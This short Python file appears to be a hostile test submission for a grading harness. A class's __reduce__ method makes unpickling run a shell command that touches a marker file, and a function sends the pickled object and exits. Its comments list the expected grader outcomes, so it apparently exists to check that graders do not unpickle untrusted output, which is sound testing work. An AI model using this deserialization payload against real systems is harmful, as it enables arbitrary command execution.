# Tries to send what a trusting grader would unpickle.
# Deserves: q1 crashed 0, q2 passed 2
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-was-here",)


def bce(p, y):
    say(pickle.dumps(Bomb()))
    os._exit(0)
